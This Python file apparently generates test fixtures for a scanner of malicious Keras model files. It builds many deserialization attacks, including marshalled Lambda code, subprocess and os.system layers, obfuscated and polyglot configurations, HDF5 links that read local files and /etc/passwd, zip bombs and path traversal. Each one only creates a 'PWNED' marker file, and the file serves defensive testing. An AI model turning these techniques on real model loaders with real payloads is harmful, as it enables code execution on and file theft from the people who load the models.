# SPDX-License-Identifier: Apache-2.0
"""Takes a folder, gives Keras files in it that would run code or touch files if they were loaded.

Made of JSON, HDF5 and ZIP alone. What runs writes a file PWNED into the current folder.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import h5py

Config = dict[str, Any]
PAYLOAD = "lambda x: (open('PWNED', 'w').close(), x)[1]"
LATER = ("3.15.1", "2.15.0")


def entry(kind: str, name: str, package: str = "keras.layers", /, **config: Any) -> Config:
    """One layer of a Sequential model, as `.keras` files have it."""
    inner = {"name": name, "trainable": True, "dtype": "float32", **config}
    return {"module": package, "class_name": kind, "config": inner, "registered_name": None}


def sequential(*layers: Config, version: str = LATER[0]) -> Config:
    """A model that takes a vector of 4."""
    shape = "batch_shape" if version.startswith("3") else "batch_input_shape"
    first = entry("InputLayer", "vector")
    first["config"] = {"name": "vector", "dtype": "float32", shape: [None, 4]}
    inner = {"name": "net", "layers": [first, *layers]}
    return {"module": "keras", "class_name": "Sequential", "config": inner, "registered_name": None}


def lambda_2(name: str = "mine") -> Config:
    """A Lambda as Keras 2 writes it to HDF5: marshalled code."""
    code = base64.b64encode(marshal.dumps(eval(PAYLOAD).__code__)).decode()
    return entry(
        "Lambda",
        name,
        function=[code, None, None],
        function_type="lambda",
        module="m",
        output_shape=None,
        output_shape_type="raw",
        arguments={},
    )


def lambda_3() -> Config:
    """A Lambda as Keras 3 writes it."""
    code = base64.b64encode(marshal.dumps(eval(PAYLOAD).__code__)).decode()
    inner = {"code": code, "defaults": None, "closure": None}
    return entry("Lambda", "mine", function={"class_name": "__lambda__", "config": inner}, arguments={})


def called(symbol: str, kind: str = "TFOpLambda") -> Config:
    """A function of TensorFlow as a layer, as Keras 2 writes it."""
    return entry(kind, "call", function=symbol)


def function(module: str, name: str) -> Config:
    """A function by name."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def hdf5(path: Path, config: str, version: str | None) -> None:
    """A `.h5` file without weights."""
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = config
        if version is not None:
            file.attrs["keras_version"] = version
        file.attrs["backend"] = "tensorflow"
        weights = file.create_group("model_weights")
        weights.attrs["layer_names"] = []


def archive(path: Path, config: Config, version: str, weights: bytes = b"", twice: bool = False) -> None:
    """A `.keras` file; with `twice` an innocent configuration stands before the real one."""
    buffer = io.BytesIO()
    h5py.File(buffer, "w").close()
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("metadata.json", json.dumps({"keras_version": version}))
        if twice:
            file.writestr("config.json", json.dumps(sequential(version=version)))
        file.writestr("config.json", json.dumps(config))
        file.writestr("model.weights.h5", weights or buffer.getvalue())


def files_2(folder: Path) -> Iterator[Path]:
    """HDF5 files of Keras 2."""
    compact = json.dumps(sequential(lambda_2(), version="2"), separators=(",", ":"))
    inner = sequential(lambda_2(), version="2")
    texts: dict[str, tuple[str, str | None]] = {
        "lambda_compact": (compact, "2.15.0"),
        "lambda_escaped": (compact.replace('"Lambda"', '"\\u004cambda"'), "2.15.0"),
        "lambda_key": (compact.replace('"class_name":"Lambda"', '"cl\\u0061ss_name":"Lambda"'), "2.15.0"),
        "lambda_three": (compact, "3.5.0"),
        "lambda_old": (compact, None),
        "lambda_strange": (compact, "x"),
        "lambda_twice": (
            compact.replace('"class_name":"Lambda"', '"class_name":"ReLU","class_name":"Lambda"'),
            "2.15.0",
        ),
    }
    layers = {
        "inside": inner,
        "wrapped": entry("TimeDistributed", "each", layer=lambda_2()),
        "write": called("io.write_file"),
        "raw": called("raw_ops.WriteFile"),
        "python": called("numpy_function"),
        "slice": called("io.read_file", "SlicingOpLambda"),
        "method": entry("InstanceMethod", "method", attr_name="numpy"),
        "words": entry("StringLookup", "words", vocabulary="/etc/passwd"),
        "custom": entry("Custom>Thing", "thing"),
    }
    for name, layer in layers.items():
        texts[name] = json.dumps(sequential(layer, version="2")), "2.15.0"
    for name, (text, version) in texts.items():
        hdf5(folder / f"{name}.h5", text, version)
        yield folder / f"{name}.h5"
    polyglot = folder / "polyglot.h5"
    hdf5(polyglot, compact, "2.15.0")
    archive(folder / "innocent.zip", sequential(), LATER[0])
    polyglot.write_bytes(polyglot.read_bytes() + (folder / "innocent.zip").read_bytes())
    yield polyglot


def files_3(folder: Path) -> Iterator[Path]:
    """`.keras` files, of both versions of Keras."""
    pager = function("pydoc", "pipepager")
    both = {
        "function": entry("Activation", "act", activation=pager),
        "pager": entry("Lambda", "pager", function=pager, arguments={"cmd": "touch PWNED"}),
        "class": entry("Popen", "shell", "subprocess", args="touch PWNED", shell=True),
        "method": entry("system", "shell", "os", command="touch PWNED"),
        "registered": {**entry("ReLU", "act"), "registered_name": "Custom>Evil"},
        "elsewhere": entry("ReLU", "act", "evil"),
        "initial": entry("Dense", "d", units=2, kernel_initializer=entry("run", "r", "pdb")),
        "utility": entry("Activation", "act", activation=function("keras.utils", "get_file")),
        "type": entry("Activation", "act", activation={"class_name": "__typespec__", "config": []}),
        "torch": entry("TorchModuleWrapper", "torch", module={"class_name": "__bytes__"}),
        "folder": entry("TFSMLayer", "saved", filepath="/tmp/x"),
    }
    for version in LATER:
        for name, layer in both.items():
            path = folder / f"{name}_{version[0]}.keras"
            archive(path, sequential(layer, version=version), version)
            yield path
    archive(folder / "lambda.keras", sequential(lambda_3()), LATER[0])
    archive(folder / "twice.keras", sequential(lambda_3()), LATER[0], twice=True)
    yield from (folder / "lambda.keras", folder / "twice.keras")


def files_linked(folder: Path) -> Iterator[Path]:
    """`.keras` files of an innocent network whose weights lie in other files of this machine."""
    (folder / "secret").write_bytes(bytes(64))
    for name in ("link", "storage", "view"):
        buffer = io.BytesIO()
        with h5py.File(buffer, "w") as file:
            variables = file.create_group("layers/dense/vars")
            if name == "link":
                variables["0"] = h5py.ExternalLink(str(folder / "secret"), "/x")
            elif name == "storage":
                variables.create_dataset("0", (4, 4), "f4", external=[(str(folder / "secret"), 0, 64)])
            else:
                layout = h5py.VirtualLayout((4, 4), "f4")
                layout[:] = h5py.VirtualSource(str(folder / "secret"), "x", (4, 4))
                variables.create_virtual_dataset("0", layout)
        path = folder / f"{name}.keras"
        dense = entry("Dense", "dense", units=4, use_bias=False, activation="linear")
        archive(path, sequential(dense), LATER[0], buffer.getvalue())
        yield path


def files_deep(folder: Path) -> Iterator[Path]:
    """`.keras` files that name code in deep places, and those of two readings."""
    run = {"module": "pdb", "class_name": "run", "config": {"statement": "open('PWNED', 'w')"}}
    code = {"class_name": "__lambda__", "config": {"code": "x"}}
    system, shell = function("os", "system"), {"args": "touch PWNED", "shell": True}
    layers = {
        "initial": _dense(kernel_initializer=run),
        "module": _dense(kernel_initializer=entry("RandomNormal", "r", "os")),
        "dtype": _dense(dtype=run),
        "policy": _dense(dtype=entry("DTypePolicy", "PWNED", "keras") | {"registered_name": "Custom>P"}),
        "built": {**_dense(), "build_config": {"input_shape": code}},
        "cell": entry("RNN", "r", cell=entry("Popen", "c", "subprocess", **shell)),
        "cells": entry("RNN", "r", cell=entry("StackedRNNCells", "s", cells=[entry("Mine", "b", "evil")])),
        "backward": entry("Bidirectional", "b", layer=entry("LSTM", "l", units=2), backward_layer=lambda_3()),
        "words": entry("TextVectorization", "t", vocabulary=str(folder / "secret")),
        "numbers": entry("IntegerLookup", "t", vocabulary=str(folder / "secret")),
        "jax": entry("JaxLayer", "j", call_fn=system),
        "flax": entry("FlaxLayer", "j", module=system),
        "path": entry("../../../PWNED", "x"),
        "load": entry("Activation", "a", activation=function("keras.saving", "load_model")),
        "fetch": entry("Activation", "a", activation=function("keras.src.utils.file_utils", "get_file")),
        "map": entry("Map", "m", "keras.src.ops.core", f=system),
        "loop": entry("WhileLoop", "m", "keras.src.ops.core", cond=system, body=system),
    }
    for name, layer in layers.items():
        archive(folder / f"deep_{name}.keras", sequential(layer), LATER[0])
        yield folder / f"deep_{name}.keras"
    text = json.dumps(sequential(lambda_3()))
    for name, data in {"mark": b"\xef\xbb\xbf" + text.encode(), "wide": text.encode("utf-16")}.items():
        yield _zipped(folder / f"deep_{name}.keras", data)
    two = folder / "deep_two.keras"
    first = _zipped(folder / "deep_first.keras", json.dumps(sequential()).encode())
    two.write_bytes(first.read_bytes() + (folder / "deep_mark.keras").read_bytes())
    yield two


def files_broken(folder: Path) -> Iterator[Path]:
    """Files that are no network: bombs, links, other files' data, lengths beyond any file."""
    (folder / "secret").write_bytes(bytes(64))
    with h5py.File(folder / "secret.h5", "w") as file:
        file["x"] = [[7.0] * 4] * 4
    good = json.dumps(sequential(_dense()))
    link = zipfile.ZipInfo("config.json")
    link.external_attr = 0o120777 << 16
    yield _zipped(folder / "link.keras", str(folder / "secret").encode(), link)
    yield _zipped(folder / "bomb.keras", b" " * (80 << 20) + good.encode())
    yield _zipped(folder / "levels.keras", b"[" * 200_000)
    yield _zipped(folder / "digits.keras", good.replace('"units": 2', f'"units": {"9" * 5000}').encode())
    absolute = _zipped(folder / "absolute.keras", good.encode(), more=("/tmp/PWNED", "../PWNED", "..\\PWNED"))
    yield absolute
    sizes = bytearray(absolute.read_bytes())
    at = sizes.find(b"PK\1\2")
    sizes[at + 20 : at + 28] = b"\xff" * 8
    (folder / "sizes.keras").write_bytes(sizes)
    yield folder / "sizes.keras"
    for name in ("group", "soft", "sparse", "text"):
        path = folder / f"{name}.h5"
        hdf5(path, json.dumps(sequential(_dense(use_bias=False), version="2")), "2.15.0")
        with h5py.File(path, "a") as file:
            weights = file["model_weights"].create_group("d/d")
            if name == "group":
                del file["model_weights"]
                file["model_weights"] = h5py.ExternalLink(str(folder / "secret.h5"), "/")
            elif name == "soft":
                weights["kernel:0"] = h5py.SoftLink("/model_weights/d/d/kernel:0")
            elif name == "sparse":
                weights.create_dataset("kernel:0", (1 << 20, 1 << 20, 1 << 10), "f4", chunks=(64, 64, 64))
            else:
                weights.create_dataset("kernel:0", (4, 4), h5py.string_dtype())
        yield path


def _dense(**config: Any) -> Config:
    layer = entry("Dense", "d", units=2)
    layer["config"].update(config)
    return layer


def _zipped(
    path: Path, config: bytes, name: str | zipfile.ZipInfo = "config.json", more: tuple[str, ...] = ()
) -> Path:
    """A `.keras` file of any bytes as its configuration."""
    buffer = io.BytesIO()
    h5py.File(buffer, "w").close()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("metadata.json", json.dumps({"keras_version": LATER[0]}))
        file.writestr(name, config)
        file.writestr("model.weights.h5", buffer.getvalue())
        for other in more:
            file.writestr(other, "x")
    return path
